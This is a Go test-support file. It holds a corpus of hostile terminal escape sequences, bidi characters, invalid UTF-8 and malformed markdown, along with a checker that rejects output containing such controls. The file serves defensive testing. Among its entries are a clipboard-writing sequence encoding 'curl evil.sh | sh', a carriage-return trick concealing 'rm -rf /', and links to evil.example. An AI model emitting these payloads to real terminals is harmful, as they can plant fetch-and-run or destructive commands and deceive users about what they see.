// Package hostile is a corpus of text a hostile or broken server could
// send, and a check that output holds no terminal control the program did
// not write itself. Tests of every screen, CLI format and export use it.
package hostile

import (
	"fmt"
	"strings"
	"unicode/utf8"
)

// Corpus returns the hostile texts: terminal sequences of every kind, raw
// and as HTML entities, bidi and zero-width characters, invalid UTF-8,
// pathological markdown and a 200,000-character line.
func Corpus() []string {
	seqs := []string{
		"\x1b]0;pwned\x07", "\x1b]2;pwned\x1b\\", "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07",
		"\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\", "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",
		"\x1b]52;c;eA==\x1b\\", "\x1b[2J\x1b[H", "\x1b[?1049h", "\x1b[?1049l", "\x1b[?1000h\x1b[?1006h",
		"\x1b[?25l", "\x1b[10;20H", "\x1b[8mhidden\x1b[0m", "\x1bP1$r0m\x1b\\", "\x1bPtmux;\x1b\x1b]0;x\x07\x1b\\",
		"\x1b_apc\x1b\\", "\x1b^pm\x1b\\", "\x1bXsos\x1b\\", "\x9b2J", "\x9d0;t\x9c", "\x900q\x9c",
		"\u009b2J", "\u009d0;title\u009c", "\u0090q\u009c", "\u009f\u009c", "\x1b", "x\x1b", "\x1bc", "\x1b7\x1b8",
		"safe\rEVIL", "rm -rf /\r# harmless", "abc\b\b\bxyz", "\x07\x00\x7f", "a\u2028b\u2029c",
		"\u202edcba\u202c", "\u2066iso\u2069", "\u200e\u200f\u061c", "zero\u200bwidth\u200c\u200d\u2060\ufeff",
		"\xff\xfe\xc2", "\xc2\x07\x9b2J", "\xe2\x80\xae",
		"&#27;[2J", "&#x1b;]0;x&#7;", "&#155;2J", "&#x9b;2J", "&#x202E;rtl", "&#8238;rtl", "&#x2066;x",
		"&#8;&#8;", "&#13;over", "&#x200B;", "&#x7f;", "&#0;", "&#x1b;]52;c;eA==&#x07;",
		"[click](javascript:alert(1))", "[ok](http://evil.example \"\x1b]0;t\x07\")", "<https://evil.example/\x1b[2J>",
		"`\x1b[2J`", "```\n\x1b]0;t\x07\n```", "<b onclick=x>raw html</b>", "![img](http://e.example/\u202e.png)",
		strings.Repeat(">", 100) + " deep", strings.Repeat("- ", 100) + "deep", strings.Repeat("1. ", 100) + "deep",
		"|" + strings.Repeat("a|", 300) + "\n|" + strings.Repeat("-|", 300) + "\n",
		strings.Repeat("# heading\n", 200), strings.Repeat("x", 200_000),
	}
	out := make([]string, 0, len(seqs)+4)
	for _, s := range seqs {
		out = append(out, "before "+s+" after")
	}
	return out
}

// Big is a 10 MB text laced with sequences.
func Big() string {
	return strings.Repeat("ten megabytes \x1b[2J\u009b \u202e ", 10<<20/24)
}

// Check reports the first control in out that the program did not write:
// ESC (unless it starts an SGR sequence and sgr is true, as in the program's
// own styled output), C0 controls other than newline, DEL, C1 controls,
// bidi controls, and invalid UTF-8.
func Check(out string, sgr bool) error {
	for i := 0; i < len(out); {
		c := out[i]
		if c == 0x1b {
			n := sgrLen(out[i:])
			if !sgr || n == 0 {
				return fmt.Errorf("ESC at byte %d: %q", i, snippet(out, i))
			}
			i += n
			continue
		}
		r, size := utf8.DecodeRuneInString(out[i:])
		switch {
		case r == utf8.RuneError && size <= 1:
			return fmt.Errorf("invalid UTF-8 at byte %d: %q", i, snippet(out, i))
		case r == '\n':
		case r < 0x20 || r == 0x7f:
			return fmt.Errorf("control %U at byte %d: %q", r, i, snippet(out, i))
		case r >= 0x80 && r <= 0x9f:
			return fmt.Errorf("C1 control %U at byte %d: %q", r, i, snippet(out, i))
		case (r >= 0x202a && r <= 0x202e) || (r >= 0x2066 && r <= 0x2069) || r == 0x200e || r == 0x200f || r == 0x061c:
			return fmt.Errorf("bidi control %U at byte %d: %q", r, i, snippet(out, i))
		}
		i += size
	}
	return nil
}

// sgrLen is the length of the SGR sequence ("ESC [ digits ; : m") at the
// start of s, or 0.
func sgrLen(s string) int {
	if len(s) < 3 || s[1] != '[' {
		return 0
	}
	for j := 2; j < len(s); j++ {
		c := s[j]
		switch {
		case c == 'm':
			return j + 1
		case (c < '0' || c > '9') && c != ';' && c != ':':
			return 0
		}
	}
	return 0
}

func snippet(s string, i int) string {
	return s[max(0, i-20):min(len(s), i+20)]
}
